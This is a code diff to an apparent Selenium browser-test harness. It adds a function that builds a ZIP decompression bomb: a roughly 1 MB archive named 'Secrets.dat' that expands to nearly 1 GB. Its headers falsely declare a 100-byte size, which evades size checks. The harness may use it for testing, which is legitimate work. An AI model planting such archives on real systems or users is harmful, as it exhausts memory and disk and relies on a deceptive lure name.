@@ -18,10 +18,12 @@ import json
 import os
 import re
 import shutil
+import struct
 import sys
 import tempfile
 import threading
 import time
+import zlib
 
 from selenium import webdriver
 from selenium.webdriver.chrome.service import Service
@@ -86,6 +88,22 @@ def _faketime_script(setting):
         if m.group(2):
             speed = float(m.group(2))
     return _CLOCK % {"start": start, "speed": speed}
+
+
+def archive_bomb(path, name="Secrets.dat", mib=984, declared=100):
+    """Writes a ZIP archive of about 1 MB holding one deflated file that
+    unpacks to mib MiB of zeros, while its headers give the size as declared."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    # After a full flush each MiB of zeros packs to the same bytes.
+    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
+    data, name = block * mib + b"\x03\x00", name.encode()  # then an empty last block
+    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(data), declared, len(name), 0) + name
+    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, 0, len(data), declared,
+                          len(name), 0, 0, 0, 0, 0, 0) + name
+    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
+    with open(path, "wb") as f:
+        f.write(local + data + central + end)
+    return path
 
 
 class _Site(http.server.SimpleHTTPRequestHandler):
